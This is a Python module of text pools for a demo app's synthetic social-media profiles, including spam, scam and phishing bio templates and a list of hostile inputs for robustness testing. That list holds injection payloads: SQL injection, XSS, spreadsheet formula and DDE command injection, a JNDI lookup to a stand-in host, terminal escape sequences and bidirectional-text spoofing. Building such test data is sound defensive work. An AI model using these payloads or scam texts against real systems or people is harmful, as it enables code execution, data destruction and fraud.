"""Text pools of the demo's profiles: bios, places, links, and hostile text.

Owns the text pools and templates. ``{c}`` is a company, ``{h}`` its handle, ``{t}`` a title,
``{a}`` and ``{b}`` pastimes, ``{u}`` a link,
``{n}`` a number. Imported by ``demo.audience`` only.
"""

from __future__ import annotations

TITLES: tuple[str, ...] = (
    "Head of Marketing", "VP Product", "CTO", "Product Manager", "Founder & CEO", "Data Analyst", "COO", "Growth Lead",
    "Director of Operations", "Senior Engineer", "CMO", "Head of Logistics", "Supply Chain Manager",
    "Account Executive",
    "UX Designer", "Chief Data Officer", "Leiterin Vertrieb", "Directeur produit", "Jefa de producto",
    "Warehouse Planner",
)  # fmt: skip

WORK_BIOS: tuple[str, ...] = (
    "{t} at {c}. Views my own.",
    "{t} @{h}",
    "{t} @ {c} | {a} & {b}",
    "{c} – {t}. Talks about {a}.",
    "{t} bei {c}. Hier privat.",
    "Building things at @{h}. {a}, {b}.",
    "{t}, {c}",
    "I help {c} ship faster. Mostly {a}.",
)

FORMER_BIOS: tuple[str, ...] = ("ex-{c}, now on a sabbatical. {a}.", "Formerly {t} at {c}. {a} and {b}.")

COMPANY_BIOS: tuple[str, ...] = (
    "{c}: freight that arrives. Support: @{h}help",
    "Official account of {c}. We move things.",
    "{c} | planning software for people who ship",
    "News and jobs from {c}.",
)

INFLUENCER_BIOS: tuple[str, ...] = (
    "Writes the newsletter on product analytics read by 40,000 operators. Speaker. {a}.",
    "Supply chain analyst. Podcast every Tuesday. Author of 'The Last Mile'.",
    "Product-led growth, {a} and {b}. Advisor to founders.",
)

PRESS_BIOS: tuple[str, ...] = ("Reporter, {c}. Logistics and software. Tips: DM.", "Senior editor @{h}. {a}.")

EMPLOYEE_BIOS: tuple[str, ...] = ("{t} at @acme. {a}.", "{t}, Acme Analytics", "Making logistics legible @acme")

PASTIMES: tuple[str, ...] = (
    "cycling", "espresso", "sourdough", "trail running", "football", "gardening", "chess", "synths", "photography",
    "hiking", "board games", "opera", "birds", "pottery", "climbing", "vinyl", "baking", "sailing", "manga",
    "knitting",
)  # fmt: skip

PRIVATE_BIOS: tuple[str, ...] = (
    "{a}, {b} and too much coffee", "Mum of two. {a}.", "just here for the {a}", "{a} fan since 1998",
    "Student. {a} / {b}",
    "Teacher by day, {a} by night", "Retired. {a}.", "he/him · {a}", "Opinions about {a}. Sorry.", "Nurse, {a}, {b}",
    "🎮 {a} 🎧 {b}", "Amante de {a}", "Ich mag {a} und {b}", "{a}が好きです", "люблю {a}", "أحب {a}", "", "",
    "living, laughing, {a}",
)  # fmt: skip

PLACES: tuple[str, ...] = (
    "", "", "Lisbon", "Munich, Germany", "Leeds, UK", "Austin, TX", "Lyon", "Gdańsk", "São Paulo", "東京",
    "Pune, India", "Nairobi", "Malmö", "Toronto", "서울", "İzmir", "Αθήνα", "دبي",
    "Melbourne", "the internet", "Earth 🌍", "she/her",
    "Москва",
)  # fmt: skip

CRYPTO_BIOS: tuple[str, ...] = (
    "{n}x gems every day 🚀 crypto signals, free VIP group on Telegram {u}",
    "Forex trader | turned ${n} into ${n}k | DM me for signals, WhatsApp only",
    "Airdrop live now ✅ claim your {n} tokens before midnight, link below 👉 {u}",
    "Guaranteed profit, {n}% weekly. Bitcoin investment made easy, inbox me",
    "Passive income with coins 📈 {n} students and counting. Ask on WhatsApp",
    "Memecoin hunter. Presale calls, {n}x last month. Telegram {u}",
    "Financial freedom at {n}. Forex signals, binary options. Inbox me",
    "charts, coins, coffee. up {n}% this year",
)

ADULT_BIOS: tuple[str, ...] = (
    "18+ only 🔞 lonely tonight? write me, my private photos {u}",
    "hot pics and nudes 💋 come here {u}",
    "{n}yo, single in your area, looking for fun, chat with me {u}",
    "sexy and waiting for you 🔥 my photos {u}",
    "onlyfans top {n}% 💦 free here {u}",
    "dating coach for shy men 😏 text me {u}",
    "your favourite girl, {n} and single 💕 {u}",
)

SCAM_BIOS: tuple[str, ...] = (
    "Acme Analytics customer help desk. Send your password for verification {u}",
    "Congratulations 🎁 giveaway no. {n}, click here to collect it {u}",
    "Lost wallet? Account recovery expert, {n} happy clients. WhatsApp me",
    "Grow {n}k real followers in 24h, buy followers cheap, DM for promo",
    "Official support center. Verify your account here {u}",
    "Recover your lost coins, certified agent no. {n}. Telegram {u}",
    "Loans in {n} minutes, no questions. Ask me how {u}",
)

PLAIN_FAKE_BIOS: tuple[str, ...] = (
    "",
    "",
    "",
    "love life",
    "follow back 100%",
    "god first",
    "be happy always",
    "dreamer ✨",
)

WAVE_BIOS: tuple[str, ...] = (
    "{a} lover. Coffee addict. {b} enthusiast. Wanderer.",
    "Passionate about {a} | {b} | Dream big",
    "Living my best life with {a} and {b} 🌸",
    "CEO of my own {a}. Hustle. {b}.",
)

FEEDS: tuple[str, ...] = (
    "Job Alerts",
    "Weather Bot",
    "Freight Rates",
    "Daily Quote",
    "Traffic Watch",
    "Coupon Feed",
    "Release Notes",
)

FEED_BIOS: tuple[str, ...] = ("Automated updates every hour. Not monitored.", "Feed of new listings. Run by a script.")

HOSTILE: tuple[tuple[str | None, str | None, str | None], ...] = (
    ("CEO [/ founder]", "CEO [/ founder] of things", "[b]Here[/b]"),
    ("[@click=app.quit]press me[/]", "[@click=app.quit]win a prize[/]", None),
    ("[red on", "[link=https://trap.example]look[/link] [[]]", "[/]"),
    ("\x1b[31mRed\x1b[0m", "clears \x1b[2J\x1b[H the screen", "\x1b]0;title\x07"),
    ("\x1b]8;;https://trap.example\x07link\x1b]8;;\x07", "bell \x07\x07 and \x9b31m C1", None),
    ("\u202egnp.exe", "moc.elpmaxe \u202eno su tisiv\u202c", "\u2066left\u2069"),
    ("a\u200bc\u200bm\u200be", "zero\u200dwidth\u2060joiner\ufeff", "\u200b"),
    ('=HYPERLINK("https://trap.example","x")', '=cmd|" /C calc"!A0', "+1-1"),
    ("-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1"),
    ("N" + "a" * 400 + "me", "long " * 200, "far " * 100),
    ("👩‍👩‍👧‍👦👨🏽‍🚀🏴‍☠️", "🇩🇪🇯🇵 👍🏿👍🏻 ❤️‍🔥", "🌍🌏🌎"),
    ("超级长的中文名字超级长的中文名字", "日本語の自己紹介です。全角ＡＢＣ", "東京都"),
    ("محمد بن Acme בן-דוד", "عربي ثم English ثم עברית 123", "القاهرة"),
    ("Z̷̢̛̗̟̈́̾a̸̧̛̟̓l̴̡̛̠̈́g̶̨̛̖̈́o̷̧̖̓", "e\u0301" + "\u0301" * 60, None),
    ("two\nlines", "one\r\ntwo\rthree\u2028four", "a\tb"),
    ("nul\x00byte", "before\x00after", "\x00"),
    ("", "", ""),
    (None, None, None),
    ("   ", "\u00a0\u2003", " "),
    ("%s%n{0}{name}", "{{config}} ${jndi:ldap://trap.example/a}", "{}"),
    ("'; DROP TABLE account;--", '" OR 1=1 --', "\\"),
    ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;"),
    ("\ud83d half".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\ufffd\uffff\ufdd0", None),
    ("ﷺ﷽𒐫", "ＦＵＬＬ ｗｉｄｔｈ ½ ﬁ Ⅷ", "𝕃𝕠𝕟𝕕𝕠𝕟"),
)
"""Name, bio and place of accounts whose text attacks the program that shows it."""
